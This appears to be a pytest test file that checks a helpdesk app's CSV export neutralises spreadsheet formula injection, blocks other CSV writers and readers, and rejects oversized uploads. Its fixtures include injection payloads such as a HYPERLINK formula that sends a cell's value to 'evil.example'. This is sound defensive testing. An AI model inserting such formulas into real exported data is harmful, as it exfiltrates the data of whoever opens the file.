"""CSV exports go through the formula-safe writer, and nothing else writes CSV."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

import pytest

from kefu.security.csvsafe import safe_cell, writer

SRC = Path(__file__).parents[2] / "src"


def test_formula_cells_are_neutralized() -> None:
    buf = io.StringIO()
    w = writer(buf)
    w.writerow(
        ['=HYPERLINK("https://evil.example","x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "＝1", "林小美", -5, "12.5%"]
    )
    row = next(csv.reader(io.StringIO(buf.getvalue())))
    assert row[:6] == ['\'=HYPERLINK("https://evil.example","x")', "'+1+1", "'-2+3", "'@SUM(A1)", "'\t=1", "'＝1"]
    assert row[6:] == ["林小美", "-5", "12.5%"]
    assert safe_cell("-12.5") == "-12.5" and safe_cell(None) is None


def test_no_other_csv_writer_in_src() -> None:
    offenders = []
    for path in SRC.rglob("*.py"):
        if path.name == "csvsafe.py":
            continue
        if re.search(r"csv\.(writer|DictWriter)\b|from csv import", path.read_text()):
            offenders.append(str(path.relative_to(SRC)))
    assert not offenders, f"use kefu.security.csvsafe.writer instead: {offenders}"


def test_no_other_csv_reader_in_src() -> None:
    """Uploaded CSV is read through csvsafe.reader / dict_reader, whose errors are a 422 (the bot's evaluation
    tools read the project's own data files from disk)."""
    offenders = []
    for path in SRC.rglob("*.py"):
        rel = path.relative_to(SRC).as_posix()
        if path.name == "csvsafe.py" or rel.startswith("kefu/bot/"):
            continue
        if re.search(r"csv\.(reader|DictReader)\b", path.read_text()):
            offenders.append(rel)
    assert not offenders, f"use kefu.security.csvsafe.reader / dict_reader instead: {offenders}"


def test_unreadable_csv_is_invalid_input() -> None:
    from kefu.core.errors import InvalidInput
    from kefu.security.csvsafe import dict_reader, reader

    huge = 'a,b\n1,"' + "x" * 200_000 + '"\n'
    for read in (lambda: list(reader(huge)), lambda: list(dict_reader(huge))):
        with pytest.raises(InvalidInput):
            read()
    with pytest.raises(InvalidInput):
        _ = dict_reader('"' + "x" * 200_000 + '"\n').fieldnames
    assert [r["b"] for r in dict_reader("a,b\n1,=x\n")] == ["=x"]


def test_report_export_neutralizes_agent_names(client: Any, make: Any, db: Any) -> None:
    from kefu.tickets.service import create_ticket

    brand = make.brand(ticket_prefix="CSV")
    evil = make.agent("agent", [brand])
    evil.name = '=HYPERLINK("https://evil.example/?"&A1,"查看")'
    brand.name = "+HYPERLINK(1)"  # the report header carries brand names
    t = create_ticket(db, actor=None, brand_id=brand.id, subject="s", description="d", customer_id=None)
    t.assignee_id = evil.id
    t.status = "resolved"
    db.commit()
    h = make.token(make.agent("admin"))
    from datetime import timedelta

    from kefu.core.db import utcnow

    period = {"start": (utcnow() - timedelta(days=2)).isoformat(), "end": (utcnow() + timedelta(days=1)).isoformat()}
    r = client.get("/api/v1/analytics/reports/weekly.csv", params={"brand_id": brand.id, **period}, headers=h)
    assert r.status_code == 200, r.text
    assert "HYPERLINK" in r.text, r.text[:2000]
    for row in csv.reader(io.StringIO(r.text.lstrip("\ufeff"))):
        for cell in row:
            assert not cell.startswith(("=", "+", "@")), cell
